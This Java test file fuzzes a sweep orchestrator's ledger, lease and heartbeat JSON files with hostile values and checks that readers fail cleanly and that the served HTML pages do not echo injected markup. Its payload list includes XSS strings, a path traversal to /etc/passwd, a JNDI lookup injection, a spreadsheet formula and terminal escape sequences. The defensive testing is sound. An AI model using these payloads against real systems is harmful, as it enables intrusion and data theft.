package dev.powersweep.orchestrator.cli;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.powersweep.orchestrator.driver.StoredSweep;
import dev.powersweep.orchestrator.ledger.LedgerJson;
import dev.powersweep.orchestrator.ledger.LedgerReader;
import dev.powersweep.orchestrator.ledger.SweepStatus;
import dev.powersweep.orchestrator.storage.SweepDirectory;
import dev.powersweep.orchestrator.storage.UserError;
import dev.powersweep.orchestrator.tables.CellsTable;
import dev.powersweep.orchestrator.viewer.PageServer;
import dev.powersweep.orchestrator.viewer.SweepWatch;
import dev.powersweep.worker.cell.Cell;
import dev.powersweep.worker.cell.CellJson;
import java.io.IOException;
import java.math.BigDecimal;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.List;
import java.util.Map;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.apache.hadoop.conf.Configuration;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Every value of every event of a ledger, of a lease and of a heartbeat, replaced by each of many that nobody would
 * expect there. Whoever reads the directory gets an answer or one sentence, and pages that hold no markup of others.
 */
class MutatedLedgerTest {
    private static final JsonNodeFactory JSON = JsonNodeFactory.instance;
    private static final String MARKUP = "<script>alert(1)</script>\"'><img src=x onerror=alert(1)>";
    /** Pages cost more than replaying; by a number that has no factor in common with those of the lists below. */
    private static final int PAGES_EVERY = 23;

    @TempDir
    Path folder;

    private final Configuration configuration = new Configuration();
    private final HttpClient http = HttpClient.newHttpClient();
    private Path sweep;
    private Path ledger;
    private int tried;

    @BeforeEach
    void store() throws Exception {
        sweep = folder.resolve("sweep");
        StoredSweep.write(sweep);
        ledger = sweep.resolve("ledger");
    }

    @Test
    void everyReaderAnswersOrRefusesInASentence() throws Exception {
        List<Path> segments;
        try (Stream<Path> files = Files.list(ledger)) {
            segments = files.filter(file -> file.getFileName().toString().startsWith("segment-"))
                    .sorted()
                    .toList();
        }
        for (Path segment : segments) {
            List<String> lines = Files.readAllLines(segment);
            for (int i = 0; i < lines.size(); i++) {
                JsonNode sound = LedgerJson.mapper().readTree(lines.get(i));
                for (JsonNode changed : mutants(sound)) {
                    List<String> all = new ArrayList<>(lines);
                    all.set(i, written(changed));
                    Files.writeString(segment, renamed(sound, changed, String.join("\n", all)) + "\n");
                    read(changed);
                }
            }
            Files.write(segment, lines);
        }
        for (String name : List.of("lease-000001.json", "_beat-000001.json")) {
            Path file = ledger.resolve(name);
            String sound = Files.readString(file);
            for (JsonNode changed : mutants(LedgerJson.mapper().readTree(sound))) {
                Files.writeString(file, written(changed));
                read(changed);
            }
            Files.writeString(file, sound);
        }
        assertThat(tried).isGreaterThan(2000);
    }

    /** Half a character can stand in JSON as an escape alone. */
    private static String written(JsonNode value) {
        return value.toString().replace("\ud800", "\\ud800");
    }

    private void read(JsonNode changed) throws Exception {
        SweepDirectory directory = SweepDirectory.at(sweep.toString(), configuration);
        String what = changed.toString();
        what = what.substring(0, Math.min(500, what.length()));
        tried++;
        try {
            SweepStatus status = SweepStatus.read(directory, configuration);
            assertThat(StatusText.of(status)).as(what).isNotEmpty();
            assertThat(LedgerJson.line(status.json())).as(what).isNotEmpty();
            CellsTable.rows(LedgerReader.open(directory, configuration));
            if (tried % PAGES_EVERY == 0) {
                pages(directory, what);
            }
        } catch (UserError sentence) {
            assertThat(sentence.getMessage()).as(what).contains(sweep.toString());
        } catch (RuntimeException | StackOverflowError bug) {
            throw new AssertionError("no sentence for " + what, bug);
        }
    }

    private void pages(SweepDirectory directory, String what) throws IOException, InterruptedException {
        SweepWatch watch = SweepWatch.open(directory, configuration);
        try (PageServer server = PageServer.start(List.of(watch), 0)) {
            String id = LedgerReader.open(directory, configuration).cells().stream()
                    .findFirst()
                    .orElseThrow()
                    .cell()
                    .id();
            for (String page : List.of("", "sweep/cells/", "sweep/cell/?id=" + id, "sweep/json/")) {
                URI address = server.address().resolve(page);
                HttpResponse<String> answer =
                        http.send(HttpRequest.newBuilder(address).build(), HttpResponse.BodyHandlers.ofString());
                assertThat(answer.statusCode()).as(page + " of " + what).isEqualTo(200);
                if (answer.headers().firstValue("Content-Type").orElse("").startsWith("text/html")) {
                    assertThat(answer.body())
                            .as(page + " of " + what)
                            .doesNotContain("<script>alert")
                            .doesNotContain("<img src=x");
                }
            }
        }
    }

    /** A cell's identity follows from its content: whoever changes that knows to change it wherever it stands. */
    private static String renamed(JsonNode sound, JsonNode changed, String text) {
        if (!sound.path("event").asText().equals("planned")) {
            return text;
        }
        if (!changed.path("cell").isObject()) {
            return text;
        }
        try {
            String was = CellJson.read(sound.get("cell").toString(), Cell.class).id();
            return text.replace(
                    was,
                    CellJson.read(changed.path("cell").toString(), Cell.class).id());
        } catch (IllegalArgumentException noCell) {
            return text;
        }
    }

    private static List<JsonNode> mutants(JsonNode sound) {
        List<JsonNode> mutants = new ArrayList<>();
        for (List<Object> place : places(sound)) {
            for (JsonNode value : hostile(at(sound, place))) {
                JsonNode changed = sound.deepCopy();
                JsonNode parent = at(changed, place.subList(0, place.size() - 1));
                Object last = place.get(place.size() - 1);
                if (last instanceof Integer index) {
                    ((ArrayNode) parent).set(index, value);
                } else {
                    ((ObjectNode) parent).set((String) last, value);
                }
                mutants.add(changed);
            }
        }
        return mutants;
    }

    private static JsonNode at(JsonNode root, List<Object> place) {
        JsonNode node = root;
        for (Object step : place) {
            node = step instanceof Integer index ? node.get(index) : node.get((String) step);
        }
        return node;
    }

    /** All values but the root, as the ways to them. */
    private static List<List<Object>> places(JsonNode node) {
        List<List<Object>> places = new ArrayList<>();
        if (node.isArray()) {
            for (int i = 0; i < node.size(); i++) {
                below(i, node.get(i), places);
            }
        } else {
            for (Iterator<Map.Entry<String, JsonNode>> fields = node.fields(); fields.hasNext(); ) {
                Map.Entry<String, JsonNode> field = fields.next();
                below(field.getKey(), field.getValue(), places);
            }
        }
        return places;
    }

    private static void below(Object step, JsonNode value, List<List<Object>> places) {
        places.add(List.of(step));
        for (List<Object> rest : places(value)) {
            places.add(Stream.concat(Stream.of(step), rest.stream()).collect(Collectors.toList()));
        }
    }

    private static List<JsonNode> hostile(JsonNode sound) {
        List<JsonNode> values = new ArrayList<>(List.of(JSON.nullNode(), JSON.objectNode(), JSON.arrayNode()));
        if (sound.isNumber()) {
            for (double number : new double[] {1e308, -1e308, Double.MIN_VALUE, -1.5}) {
                values.add(JSON.numberNode(number));
            }
            for (long number : new long[] {
                0, -1, Integer.MAX_VALUE, Integer.MIN_VALUE, Long.MAX_VALUE, Long.MIN_VALUE, 1_000_000_000_000L
            }) {
                values.add(JSON.numberNode(number));
            }
            values.add(JSON.numberNode(new BigDecimal("1e999999999")));
            values.add(JSON.textNode("NaN"));
            values.add(JSON.textNode("-Infinity"));
        } else if (sound.isObject()) {
            ObjectNode many = JSON.objectNode();
            for (int i = 0; i < 1000; i++) {
                many.put("\u001b]0;" + i, MARKUP);
            }
            values.add(many);
        } else if (sound.isArray()) {
            ArrayNode many = JSON.arrayNode();
            for (int i = 0; i < 5000; i++) {
                many.add(sound.isEmpty() ? JSON.numberNode(1) : sound.get(0));
            }
            values.add(many);
        } else {
            for (String text : List.of(
                    "",
                    "\u001b]0;owned\u0007\u001b[2J\u202e\r\nforged",
                    "../../../../etc/passwd",
                    MARKUP,
                    "=HYPERLINK(\"http://example.org\")",
                    "x".repeat(100_000),
                    "%s%n {} ${jndi:ldap://example.org/a}",
                    "\ud800",
                    "-1000000000-01-01T00:00:00Z",
                    "+1000000000-12-31T23:59:59.999999999Z",
                    "NaN")) {
                values.add(JSON.textNode(text));
            }
            values.add(JSON.numberNode(7));
            values.add(JSON.numberNode(-1e308));
            values.add(JSON.booleanNode(true));
        }
        return values;
    }
}
